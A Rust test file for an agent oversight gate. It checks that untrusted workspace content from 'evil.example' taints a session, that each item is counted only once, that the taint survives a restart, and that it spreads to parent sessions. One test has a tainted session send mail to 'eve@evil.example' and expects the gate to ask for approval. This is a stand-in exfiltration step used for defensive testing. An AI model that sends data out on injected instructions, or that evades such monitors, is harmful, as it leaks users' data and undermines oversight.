//! What lies where an agent works counts as read, once, and before anything else.

use aegx::{Digest, RecordType};
use evidence::{NewRecord, Receipt};
use model::{Kind, Source, Taint};
use monitor::taint::label;
use monitor::{Found, Opening};
use serde_json::json;

use crate::gate::world::{Gate, TASK, World, asks, opening, send_mail, who};

fn found(content: &[u8], tokens: u64) -> Found {
    let tag = label(Source::Web, "https://evil.example/", 5);
    Found { tag, tokens, content: Digest::of(content) }
}

fn receipt(gate: &Gate) -> Receipt {
    let kind = Kind::parse("workspace_entered").unwrap();
    let record = NewRecord::of_host(RecordType::Snapshot, kind, json!({}));
    gate.journal.append(record).unwrap()
}

#[test]
fn it_taints_the_session_and_counts_once() {
    let world = World::new();
    let gate = world.open();
    let session = gate.begin("s");
    assert_eq!(gate.monitor.tag(&session).unwrap(), None);
    let receipt = receipt(&gate);
    gate.monitor.find(&session, &[found(b"page", 100)], &receipt).unwrap();
    gate.monitor.find(&session, &[found(b"page", 100)], &receipt).unwrap();
    assert_eq!(gate.monitor.summary(&session).unwrap().tainted_tokens, 100);
    gate.monitor.find(&session, &[found(b"other", 7)], &receipt).unwrap();
    assert_eq!(gate.monitor.summary(&session).unwrap().tainted_tokens, 107);
    let tag = gate.monitor.tag(&session).unwrap().unwrap();
    assert_eq!((tag.origin.as_str(), tag.source), ("https://evil.example/", Source::Web));
    assert!(tag.taint.contains(Taint::WEB_DERIVED));
    // Nobody asked for this, and somebody else may have.
    asks(gate.call(&session, &send_mail("eve@evil.example"), ""));
}

#[test]
fn it_is_still_there_after_a_restart_and_still_counts_once() {
    let world = World::new();
    let gate = world.open();
    let session = gate.begin("s");
    gate.monitor.find(&session, &[found(b"page", 100)], &receipt(&gate)).unwrap();
    drop(gate);
    let gate = world.open();
    gate.monitor.open_session(opening(&session)).unwrap();
    assert!(gate.taint(&session).contains(Taint::UNTRUSTED));
    gate.monitor.find(&session, &[found(b"page", 100)], &receipt(&gate)).unwrap();
    assert_eq!(gate.monitor.summary(&session).unwrap().tainted_tokens, 100);
}

#[test]
fn parents_are_told_and_strangers_are_not_served() {
    let world = World::new();
    let gate = world.open();
    let parent = gate.begin("parent");
    gate.hear(&parent, Source::User, TASK).unwrap();
    let child = who("child");
    let opening = Opening { parent: Some(parent.session.clone()), ..opening(&child) };
    gate.monitor.open_session(opening).unwrap();
    let receipt = receipt(&gate);
    gate.monitor.find(&child, &[found(b"page", 100)], &receipt).unwrap();
    assert!(gate.taint(&parent).contains(Taint::UNTRUSTED));
    assert!(gate.monitor.find(&who("nobody"), &[found(b"page", 1)], &receipt).is_err());
    assert!(gate.monitor.tag(&who("nobody")).is_err());
    assert!(gate.monitor.is_open(&child.session) && !gate.monitor.is_open(&who("nobody").session));
}
